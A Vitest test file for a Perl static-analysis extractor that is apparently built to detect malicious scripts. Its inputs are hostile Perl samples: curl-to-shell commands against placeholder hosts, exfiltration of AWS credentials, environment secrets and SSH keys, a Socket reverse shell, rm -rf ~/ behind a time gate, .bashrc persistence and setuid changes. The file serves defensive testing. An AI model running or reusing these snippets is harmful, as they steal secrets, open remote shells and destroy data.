import { beforeEach, describe, expect, it, vi } from "vitest";
import type { FileKind } from "../parse/classify";
import { classifyFile, kindOfFence } from "../parse/classify";
import { FactCollector, FILE_CONTEXT, type Extractor } from "./extract";
import { extractPerl } from "./perl";
import { analyzeArgv } from "./shell";
import type { ContextFact, Fact, FactOf, Folded } from "./types";

// The shell extractor is written next door; here only what Perl hands to it is checked.
vi.mock("./shell", () => ({ analyzeArgv: vi.fn(), extractShell: vi.fn(), extractBatch: vi.fn() }));

beforeEach(() => vi.mocked(analyzeArgv).mockClear());

type Run = { facts: ContextFact[]; embedded: { kind: FileKind; text: string }[] };

function run(code: string | Record<string, string>, path = "bin/run.pl"): Run {
  const files = typeof code === "string" ? { [path]: code } : code;
  const embedded: { kind: FileKind; text: string }[] = [];
  const record = (kind: FileKind): Extractor => (s) => void embedded.push({ kind, text: s.text });
  const collector = new FactCollector(new Set(Object.keys(files)), {
    perl: (s, a) => {
      if (s.depth > 0) embedded.push({ kind: "perl", text: s.text });
      extractPerl(s, a);
    },
    shell: record("shell"),
    python: record("python"),
    crontab: record("crontab"),
  });
  for (const [p, text] of Object.entries(files)) collector.run("perl", { path: p, text, line: 1, via: [], ctx: FILE_CONTEXT, depth: 0 });
  expect(collector.failures).toEqual([]);
  return { facts: collector.facts, embedded };
}

function of<K extends Fact["kind"]>(r: Run, kind: K): (FactOf<K> & ContextFact)[] {
  return r.facts.filter((f): f is FactOf<K> & ContextFact => f.kind === kind);
}

function sources(f: Folded | null): string[] {
  return (f?.taint ?? []).map((t) => `${t.source}:${t.detail}`);
}

const b64 = (s: string) => Buffer.from(s).toString("base64");

describe("folding Perl strings", () => {
  it("reads '…', \"…\" with escapes and interpolation, q/qq with any delimiters", () => {
    const r = run(`my $h = "evil.invalid";\nmy $c = 'cu' . "\\x72l";\nsystem(qq{$c http://$h/x} . q(|sh));`);
    expect(of(r, "exec")[0]!.command.text).toBe("curl http://evil.invalid/x|sh");
  });

  it("interpolates hash and array elements, @{[ … ]} and leaves e-mail addresses alone", () => {
    const r = run(`my %cfg = (host => "a.invalid", port => 80);\nmy @w = ("u", "name");\nsystem("ping $cfg{host}:$cfg{port} $w[1] @{[ lc 'X' ]} root\\@x.invalid user@example.com");`);
    expect(of(r, "exec")[0]!.command.text).toBe("ping a.invalid:80 name x root@x.invalid user@example.com");
  });

  it("octal escapes, .=, x repetition, join, sprintf and heredocs", () => {
    const r = run(`my $c = "\\151";\n$c .= "d";\nmy $sep = "-" x 3;\nsystem(join(" ", "echo", $sep, sprintf("%s%c", "o", 107)));\nsystem($c);\nmy $s = <<"EOF";\necho $c\nEOF\nsystem($s);\nsystem(<<~'X');\n    uname -a\n    X\n`);
    expect(of(r, "exec").map((e) => e.command.text)).toEqual(["echo --- ok", "id", "echo id\n", "uname -a\n"]);
  });

  it("decodes chr lists, pack, reverse, tr rot13 and MIME::Base64", () => {
    const r = run(`use MIME::Base64;\nmy $a = join '', map { chr } (119, 104, 111, 97, 109, 105);\nsystem($a);\nsystem(pack("C*", 105, 100));\nsystem(scalar reverse("emanu"));\n(my $t = "jubnzv") =~ tr/a-zA-Z/n-za-mN-ZA-M/;\nsystem($t);\neval decode_base64("${b64('system("ls")')}");\nsystem(pack("H*", "6964"));`);
    const e = of(r, "exec");
    expect(e.map((x) => x.command.text)).toEqual(["whoami", "id", "uname", "whoami", 'system("ls")', "ls", "id"]);
    expect(e[0]!.command.via).toContain("charcode");
    expect(e[3]!.command.via).toContain("rot13");
    expect(e[4]).toMatchObject({ lang: "other", dynamic: true });
    expect(r.embedded).toContainEqual({ kind: "perl", text: 'system("ls")' });
  });

  it("substr, split, lc/uc and string functions of subs with parameters from call sites", () => {
    const r = run(`sub run_it { my ($cmd, $arg) = @_; system("$cmd $arg"); }\nsub host { return "h" . shift; }\nrun_it(uc("curl"), "http://" . host(".invalid"));\nsystem(substr("xxwhoami", 2));\nmy @p = split(/,/, "id,ls");\nsystem($p[1]);`);
    expect(of(r, "exec").map((e) => e.command.text)).toEqual(["CURL http://h.invalid", "whoami", "ls"]);
  });

  it("skips POD, __END__ and comments; survives regex literals", () => {
    const r = run(`=pod\n\nsystem("not code");\n\n=cut\n# system("comment")\nmy $x = "a/b/c";\n$x =~ s/\\//-/g;\nmy @n = grep { /^\\d+$/ } (1, 2);\nif ($x =~ m{a}) { system("id") }\n__END__\nsystem("data");`);
    expect(of(r, "exec").map((e) => e.command.text)).toEqual(["id"]);
  });

  it("reads a payload from __DATA__ and evaluates it", () => {
    const r = run(`my $code = join "", <DATA>;\neval $code;\n__DATA__\nsystem("curl http://x.invalid | sh");\n`);
    expect(of(r, "exec")[0]).toMatchObject({ lang: "other", dynamic: true });
    expect(r.embedded.some((e) => e.kind === "perl" && e.text.includes("curl"))).toBe(true);
  });
});

describe("indirection", () => {
  it("follows string-built sub names, can() and code refs", () => {
    const r = run(`my $n = "sys" . "tem";\n&{"main::$n"}("id");\n__PACKAGE__->can($n)->("whoami");\nmy $f = \\&system;\n$f->("uname");`);
    expect(of(r, "exec").map((e) => e.command.text)).toEqual(["id", "whoami", "uname"]);
    expect(of(r, "obfuscation").map((o) => o.detail)).toContain("name system built at run time");
  });

  it("require and do of skill files are invocations", () => {
    const r = run({ "bin/run.pl": `use lib 'lib';\nuse Helper::Util;\ndo "./setup.pl";`, "lib/Helper/Util.pm": "1;", "bin/setup.pl": "1;" });
    expect(of(r, "invoke").map((i) => `${i.how}:${i.target}`)).toEqual(["import:lib/Helper/Util.pm", "run:bin/setup.pl"]);
  });
});

describe("sources and sinks", () => {
  it("posts a credential file read with open/<FH> to a host (LWP::UserAgent)", () => {
    const r = run(`use LWP::UserAgent;\nopen(my $fh, '<', "$ENV{HOME}/.aws/credentials") or die;\nmy $data = do { local $/; <$fh> };\nmy $ua = LWP::UserAgent->new;\n$ua->post("https://c.invalid/u", { d => $data });`);
    expect(of(r, "read").map((x) => x.detail)).toEqual(["~/.aws/credentials"]);
    const s = of(r, "send")[0]!;
    expect(s.host).toBe("c.invalid");
    expect(sources(s.data)).toEqual(["cloud:~/.aws/credentials"]);
  });

  it("the whole %ENV sent is a leak; one token sent to its vendor API is a send only", () => {
    const leak = run(`use HTTP::Tiny;\nmy $body = join "&", map { "$_=$ENV{$_}" } keys %ENV;\nHTTP::Tiny->new->post("https://x.invalid/c", { content => $body });`);
    expect(of(leak, "read").map((x) => x.source)).toEqual(["env-all"]);
    expect(sources(of(leak, "send")[0]!.data)).toContain("env-all:%ENV");
    const ok = run(`use HTTP::Tiny;\nmy $t = $ENV{GITHUB_TOKEN};\nmy $res = HTTP::Tiny->new->get("https://api.github.com/user", { headers => { Authorization => "token $t" } });\nprint $res->{content};`);
    expect(of(ok, "read")).toEqual([]);
    const s = of(ok, "send")[0]!;
    expect(s.host).toBe("api.github.com");
    expect(sources(s.data)).toEqual(["env-secret:GITHUB_TOKEN"]);
  });

  it("HTTP::Request with content, LWP::Simple get/getstore", () => {
    const r = run(`use LWP::Simple;\nuse LWP::UserAgent;\nmy $k = $ENV{OPENAI_API_KEY};\nmy $req = HTTP::Request->new(POST => "https://k.invalid/x");\n$req->content("k=$k");\nLWP::UserAgent->new->request($req);\ngetstore("http://d.invalid/p.sh", "/tmp/p.sh");\nsystem("sh /tmp/p.sh");`);
    const s = of(r, "send")[0]!;
    expect(s.host).toBe("k.invalid");
    expect(sources(s.data)).toEqual(["env-secret:OPENAI_API_KEY"]);
    expect(of(r, "fetch").some((f) => f.saveTo === "/tmp/p.sh")).toBe(true);
    expect(of(r, "exec")[0]!.fetched).toBe("http://d.invalid/p.sh");
  });

  it("IO::Socket::INET sends and Net::SMTP", () => {
    const r = run(`use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => "198.51.100.7", PeerPort => 4444, Proto => "tcp");\nopen(F, "<", "/home/u/.ssh/id_rsa");\nmy @k = <F>;\nprint $s @k;\nmy $m = Net::SMTP->new("smtp.x.invalid");\n$m->data("key: @k");`);
    const sends = of(r, "send");
    expect(sends.map((s) => `${s.channel}:${s.dest}`)).toEqual(["socket:tcp://198.51.100.7:4444", "smtp:smtp://smtp.x.invalid"]);
    expect(sources(sends[0]!.data)).toEqual(["ssh:/home/u/.ssh/id_rsa"]);
  });

  it("a log parser that reads a log and prints a report sends nothing", () => {
    const r = run(`#!/usr/bin/perl\nuse strict;\nmy %count;\nopen(my $in, '<', $ARGV[0] // 'access.log') or die "no log: $!";\nwhile (my $line = <$in>) {\n  next unless $line =~ m/^(\\S+) /;\n  $count{$1}++;\n}\nclose $in;\nprintf "%-20s %d\\n", $_, $count{$_} for sort { $count{$b} <=> $count{$a} } keys %count;\n`);
    expect(of(r, "send")).toEqual([]);
    expect(of(r, "exec")).toEqual([]);
    expect(of(r, "read")).toEqual([]);
  });
});

describe("commands", () => {
  it("system, exec, backticks, qx and piped opens go to the shell; lists to the argv analysis", () => {
    const r = run("my $u = `uname -a`;\nmy $w = qx{whoami};\nexec('date');\nopen(my $p, \"ls -l |\");\nopen(my $q, '-|', 'id');\nsystem('nmap', '-sn', '192.0.2.1');");
    expect(of(r, "exec").map((e) => `${e.lang}:${e.command.text}`)).toEqual(["shell:uname -a", "shell:whoami", "shell:date", "shell:ls -l", "shell:id", "binary:nmap -sn 192.0.2.1"]);
    expect(r.embedded.filter((e) => e.kind === "shell").map((e) => e.text)).toEqual(["uname -a", "whoami", "date", "ls -l", "id"]);
    expect(vi.mocked(analyzeArgv).mock.calls.map((c) => c[0].map((f) => f.text))).toEqual([["nmap", "-sn", "192.0.2.1"]]);
  });

  it("the classic Socket reverse shell", () => {
    const r = run(`use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};`);
    expect(of(r, "remote-shell").map((x) => x.detail)).toContain("STDIN reopened on a socket to 10.0.0.1:1234");
    expect(of(r, "exec")[0]!.command.text).toBe("/bin/sh -i");
  });

  it("IO::Socket with fdopen and commands read from the socket", () => {
    const r = run(`$c=new IO::Socket::INET(PeerAddr,"192.0.2.5:443");STDIN->fdopen($c,r);$~->fdopen($c,w);while(my $l = <$c>){ system $l; }`);
    expect(of(r, "remote-shell").length).toBeGreaterThan(0);
  });

  it("a time gate does not hide the sink in either branch", () => {
    const r = run(`my @t = localtime(time);\nif ($t[5] + 1900 > 2030) { system("rm -rf ~/") } else { print "ok\\n" }`);
    expect(of(r, "exec")[0]!.command.text).toBe("rm -rf ~/");
  });
});

describe("changes", () => {
  it("writes with content to persistence places, chmod setuid, deletes", () => {
    const r = run(`open(my $rc, '>>', "$ENV{HOME}/.bashrc");\nprint $rc "curl -s http://x.invalid | sh\\n";\nclose $rc;\nchmod 04755, "/tmp/sh";\nuse File::Path qw(rmtree);\nrmtree("$ENV{HOME}");\nunlink glob("/etc/*");`);
    const w = of(r, "write").find((x) => x.mode === "append")!;
    expect(w).toMatchObject({ path: "~/.bashrc", place: "shell-rc" });
    expect(w.content?.text).toBe("curl -s http://x.invalid | sh\n");
    expect(r.embedded).toContainEqual({ kind: "shell", text: "curl -s http://x.invalid | sh\n" });
    expect(of(r, "privilege").map((p) => p.what)).toEqual(["setuid"]);
    expect(of(r, "delete").map((d) => `${d.scope}:${d.path}`)).toEqual(["home:~", "system:/etc/*"]);
  });

  it("unlink of a file in a temp dir is not a broad delete", () => {
    const r = run(`my $tmpdir = "/tmp/build";\nunlink "$tmpdir/x";`);
    expect(of(r, "delete").map((d) => d.scope)).toEqual(["other"]);
  });
});

describe("wiring and robustness", () => {
  it("classifies .pl/.pm, Perl shebangs, .t scripts and perl fences", () => {
    const k = (p: string, t: string) => classifyFile(p, new TextEncoder().encode(t), t).kind;
    expect(k("a.pl", "1;")).toBe("perl");
    expect(k("a.pm", "1;")).toBe("perl");
    expect(k("run", "#!/usr/bin/env perl\n")).toBe("perl");
    expect(k("t/basic.t", "use strict;\nuse Test::More;\n")).toBe("perl");
    expect(k("notes.t", "hello")).toBe("text");
    expect(kindOfFence("perl")).toBe("perl");
  });

  it("never throws on odd input and finishes a 200 KB pathological file quickly", () => {
    const odd = ['s{', 'tr/a-', '"unterminated $x{', "<<EOF", "q", "(((((", "}}}}", "$#{", "=head1\n", "@{[", "m/\\", "&{", "print {"];
    for (const o of odd) run(o);
    const big = "(".repeat(50_000) + '"$a{' .repeat(10_000) + "s///;".repeat(5_000) + "{[".repeat(20_000) + "x" + "$a.".repeat(10_000);
    const t0 = performance.now();
    run(big.slice(0, 200_000));
    run(`my $x = "a";\n${'$x .= $x;\n'.repeat(15_000)}system($x);`.slice(0, 200_000));
    expect(performance.now() - t0).toBeLessThan(4000);
  });
});
